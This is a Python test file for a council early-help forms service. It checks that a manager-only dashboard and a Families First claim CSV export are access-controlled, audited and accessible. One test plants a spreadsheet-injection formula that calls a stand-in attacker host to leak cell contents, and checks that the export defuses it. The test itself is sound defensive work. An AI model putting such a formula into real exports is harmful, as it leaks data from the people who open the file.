"""The manager dashboard and the Families First claim export over HTTP: managers only (404 for
everyone else, audited), the period from the query string, accessible charts beside tables of
the same numbers, and a claim CSV whose cells a spreadsheet never runs as formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any

from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from forms_service.audit import AuditEvent
from forms_service.auth.actor import ANONYMOUS, Actor
from forms_service.db import transaction
from forms_service.families.models import Family
from forms_service.services import Services
from forms_service.submissions.models import Submission
from forms_service.submissions.service import submit
from forms_service.workspace import reports
from forms_service.workspace.models import Allocation, Referral
from forms_service.workspace.service import allocate, record_outcome, referral_clocks
from tests.factories import ehfsa_answers, family_story_answers, tacaf_closing_answers
from tests.staff import signed_in, staff_user

QUARTER = {"from": "2025-01-01", "to": "2025-03-31"}


def at(text: str) -> dt.datetime:
    return dt.datetime.fromisoformat(text).replace(tzinfo=dt.UTC)


def _submission(session: Any, reference: str) -> Submission:
    return session.scalars(select(Submission).where(Submission.reference == reference)).one()


def _referral(services: Services, when: dt.datetime, answers: dict[str, Any] | None = None) -> str:
    """An EHFSA received at ``when``: its family opened and its clocks started then."""
    form = services.registry.get("ehfsa")
    reference = submit(
        services, form, answers or ehfsa_answers(3), channel="web", actor=ANONYMOUS
    ).reference
    with transaction(services.sessions) as session:
        found = _submission(session, reference)
        found.submitted_at = when
        session.get(Family, found.family_id).opened_at = when
        referral = session.get(Referral, found.id)
        referral.received_at = when
        referral.acknowledge_by, referral.outcome_due_at = referral_clocks(
            when, False, services.settings.clock_rules
        )
    return reference


def _decide(services: Services, duty: Actor, reference: str, when: dt.datetime) -> str:
    """Record an outcome, dated ``when``; the family's id."""
    record_outcome(services, duty, reference, "tacaf_panel", "Seen at triage.")
    with transaction(services.sessions) as session:
        found = _submission(session, reference)
        session.get(Referral, found.id).decided_at = when
        return found.family_id


def _manager(app: Flask, services: Services) -> FlaskClient:
    return signed_in(app.test_client(), services, staff_user(services, "manager"))


def _duty(services: Services) -> Actor:
    user = staff_user(services, "cspoc")
    return Actor("user", user_id=user.id, role="cspoc")


def test_a_manager_reads_the_figures_for_a_period_as_charts_and_tables(
    app: Flask, services: Services
) -> None:
    duty = _duty(services)
    _decide(
        services, duty, _referral(services, at("2025-01-06T10:00:00")), at("2025-01-07T09:00:00")
    )
    family_id = _decide(
        services, duty, _referral(services, at("2025-01-06T10:00:00")), at("2025-01-09T09:00:00")
    )
    _referral(services, at("2024-12-31T23:59:00"))  # the day before: not counted
    worker = staff_user(services, "lead-professional", name="Jo Bennett")
    allocate(services, duty, family_id, worker.email)
    page = _manager(app, services).get("/staff/dashboard", query_string=QUARTER)
    assert page.status_code == 200
    html = page.text
    assert "1 January 2025 to 31 March 2025" in html
    assert "1 of 2 (50%)" in html  # in the chart, as text
    svgs = re.findall(r'<svg [^>]*role="img"[^>]*aria-labelledby="([^"]+)"', html)
    assert len(svgs) == 4
    for labelled_by in svgs:
        title, desc = labelled_by.split()
        assert f'<title id="{title}">' in html and f'<desc id="{desc}">' in html
    # The same figures in a table: measure, in time, out of, percentage.
    row = re.search(r"Referrals with an outcome within 48 hours</th>(.*?)</tr>", html, re.S)
    assert row is not None
    assert re.findall(r">\s*([^<]+?)\s*</td>", row.group(1)) == ["1", "2", "50%"]
    outcome = re.search(
        r"Early Help request: Team Around the Child and Family[^<]*</th>\s*<td[^>]*>(\d+)<",
        html,
    )
    assert outcome is not None and outcome.group(1) == "2"
    load = re.search(r"Jo Bennett</th>\s*<td[^>]*>(\d+)</td>\s*<td[^>]*>(\d+)</td>", html)
    assert load is not None and load.groups() == ("1", "0")
    assert "1 (0 overdue)" in html
    with services.readers() as session:
        viewed = session.scalars(
            select(AuditEvent).where(AuditEvent.action == "dashboard.viewed")
        ).one()
    assert viewed.outcome == "ok" and viewed.detail == "2025-01-01 to 2025-03-31"


def test_everyone_but_a_manager_gets_404_and_the_refusal_is_audited(
    app: Flask, services: Services
) -> None:
    for role in ("cspoc", "lead-professional", "admin"):
        user = staff_user(services, role)
        client = signed_in(app.test_client(), services, user)
        assert client.get("/staff/dashboard").status_code == 404
        assert client.get("/staff/dashboard/claims.csv").status_code == 404
        assert client.get("/staff/dashboard/claims.csv?from=nonsense").status_code == 404
        with services.readers() as session:
            refused = session.execute(
                select(AuditEvent.action, AuditEvent.outcome).where(
                    AuditEvent.actor_id == user.id,
                    AuditEvent.action.in_(("dashboard.viewed", "claim.exported")),
                )
            ).all()
        assert sorted(refused) == [
            ("claim.exported", "denied"),
            ("claim.exported", "denied"),
            ("dashboard.viewed", "denied"),
        ]
    anonymous = app.test_client().get("/staff/dashboard")
    assert anonymous.status_code == 302
    assert (
        anonymous.headers["Location"].startswith("/staff/sign-in")
        or "sign-in" in anonymous.headers["Location"]
    )


def test_a_wrong_period_is_said_and_the_last_three_months_shown(
    app: Flask, services: Services
) -> None:
    client = _manager(app, services)
    wrong = client.get("/staff/dashboard", query_string={"from": "2025-02-30"})
    assert wrong.status_code == 200
    assert "There is a problem" in wrong.text and "Enter a real date for “From”" in wrong.text
    assert '<a href="#from">' in wrong.text
    backwards = client.get(
        "/staff/dashboard", query_string={"from": "2025-03-01", "to": "2025-02-01"}
    )
    assert "must be on or before" in backwards.text
    shown = reports.default_period(reports.london_today())
    for page in (wrong, backwards, client.get("/staff/dashboard")):
        assert f'value="{shown.first_day.isoformat()}"' in page.text
        assert f'value="{shown.last_day.isoformat()}"' in page.text
    assert client.get("/staff/dashboard/claims.csv", query_string={"to": "soon"}).status_code == 400


def _closed_family(services: Services, duty: Actor) -> str:
    """A family referred on 6 January 2025 (education, money), allocated on the 7th, assessed,
    and closed at a review on 20 March that records both outcomes as met."""
    family_id = _decide(
        services, duty, _referral(services, at("2025-01-06T10:00:00")), at("2025-01-07T09:00:00")
    )
    worker = staff_user(services, "lead-professional")
    allocate(services, duty, family_id, worker.email)
    jo = Actor("user", user_id=worker.id, role="lead-professional")
    story = submit(
        services,
        services.registry.get("family-story"),
        family_story_answers(),
        channel="web",
        actor=jo,
        family_id=family_id,
    ).reference
    closing = tacaf_closing_answers()
    for item in closing["progress"]:
        item["indicator_met"] = True
    review = submit(
        services,
        services.registry.get("tacaf-review"),
        closing,
        channel="web",
        actor=jo,
        family_id=family_id,
    ).reference
    with transaction(services.sessions) as session:
        session.scalars(
            select(Allocation).where(Allocation.family_id == family_id)
        ).one().allocated_at = at("2025-01-07T10:00:00")
        _submission(session, story).submitted_at = at("2025-01-24T10:00:00")
        _submission(session, review).submitted_at = at("2025-03-20T15:00:00")
        family = session.get(Family, family_id)
        assert family.status == "closed"
        family.closed_at = at("2025-03-20T15:00:00")
    return family_id


def _rows(reply: Any) -> list[dict[str, str]]:
    assert reply.status_code == 200
    assert reply.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(reply.text)))


def test_the_claim_export_gives_each_familys_needs_outcomes_and_dates(
    app: Flask, services: Services
) -> None:
    duty = _duty(services)
    family_id = _closed_family(services, duty)
    reply = _manager(app, services).get("/staff/dashboard/claims.csv", query_string=QUARTER)
    assert (
        'filename="families-first-claim-2025-01-01-to-2025-03-31.csv"'
        in reply.headers["Content-Disposition"]
    )
    rows = _rows(reply)
    assert rows == [
        {
            "family id": family_id,
            "status": "closed",
            "number of needs": "2",
            "needs identified (first recorded)": "Getting a good education (2025-01-06); "
            "Financial stability (2025-01-06)",
            "outcomes met at closure": "Getting a good education; Financial stability",
            "outcomes met on": "2025-03-20",
            "how it closed": "Close",
            "lead professional assigned on": "2025-01-07",
            "closed on": "2025-03-20",
        }
    ]
    with services.readers() as session:
        exported = session.scalars(
            select(AuditEvent).where(AuditEvent.action == "claim.exported")
        ).one()
    assert exported.outcome == "ok" and exported.detail.startswith("1 families")
    # A family closed before the period, or opened after it, is not in it.
    later = _manager(app, services).get(
        "/staff/dashboard/claims.csv", query_string={"from": "2025-04-01", "to": "2025-04-30"}
    )
    assert _rows(later) == []


def test_no_claim_cell_can_run_as_a_formula(app: Flask, services: Services) -> None:
    """A need no form offers any more is exported by its stored value: never as a formula."""
    duty = _duty(services)
    reference = _referral(services, at("2025-02-03T10:00:00"))
    family_id = _decide(services, duty, reference, at("2025-02-04T10:00:00"))
    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    with transaction(services.sessions) as session:
        found = _submission(session, reference)
        answers = services.vault.open(found.answers_sealed)
        answers["needs"] = [{**answers["needs"][0], "headline": hostile}]
        found.answers_sealed = services.vault.seal(answers)
    rows = _rows(_manager(app, services).get("/staff/dashboard/claims.csv", query_string=QUARTER))
    assert [r["family id"] for r in rows] == [family_id]
    assert rows[0]["needs identified (first recorded)"] == f"'{hostile} (2025-02-03)"
